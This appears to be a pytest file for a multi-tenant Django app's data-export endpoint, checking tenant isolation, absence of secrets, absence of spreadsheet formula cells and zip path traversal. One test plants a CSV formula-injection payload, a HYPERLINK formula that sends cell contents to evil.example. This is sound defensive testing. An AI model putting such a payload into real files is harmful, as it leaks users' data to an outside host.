"""What an enterprise takes home is its own, and runs in no program that opens it."""

import csv
import io
import zipfile

import pytest

from samphao.apps.enterprises.models import Grower
from samphao.groundwork import tenancy
from tests.bad_weather.web.answers import client_of
from tests.bad_weather.web.cast import Who
from tests.bad_weather.web.secrets_of import found_in
from tests.bad_weather.web.world import World

pytestmark = pytest.mark.django_db
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def test_an_export_holds_nothing_of_another_enterprise(world: World) -> None:
    archive = _exported(world, Who.STRANGER, world.theirs.id)

    assert archive.namelist()
    for name in archive.namelist():
        text = archive.read(name).decode("utf-8", "ignore")
        assert not found_in(text + name, world.ours, world.secrets, ())


def test_an_export_holds_no_secret_of_the_house(world: World) -> None:
    archive = _exported(world, Who.OWNER, world.ours.id)
    whole = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "ignore")

    for secret in (*world.ours.keys.values(), world.ours.texts["token"], "md5$"):
        assert secret not in whole


def test_no_cell_of_a_table_is_a_formula(world: World) -> None:
    with tenancy.bound(world.ours.id):
        grower = Grower.objects.get(id=world.ours.ids["grower"])
        Grower.objects.filter(id=grower.id).update(
            name='=HYPERLINK("https://evil.example/?"&A1)', phone="+66-2", number="@SUM(A1)"
        )

    archive = _exported(world, Who.OWNER, world.ours.id)

    cells = [
        cell
        for name in archive.namelist()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
        for cell in row
    ]
    assert cells
    assert [cell for cell in cells if cell.startswith(FORMULAS)] == []


def test_names_inside_an_export_lead_to_no_place_outside_it(world: World) -> None:
    for name in _exported(world, Who.OWNER, world.ours.id).namelist():
        assert not name.startswith(("/", "\\"))
        assert ".." not in name.split("/")


def _exported(world: World, who: Who, enterprise_id: object) -> zipfile.ZipFile:
    answer = client_of(world.callers[who]).post(f"/e/{enterprise_id}/data/rights/export/")
    assert answer.status_code == 200
    return zipfile.ZipFile(io.BytesIO(answer.content))
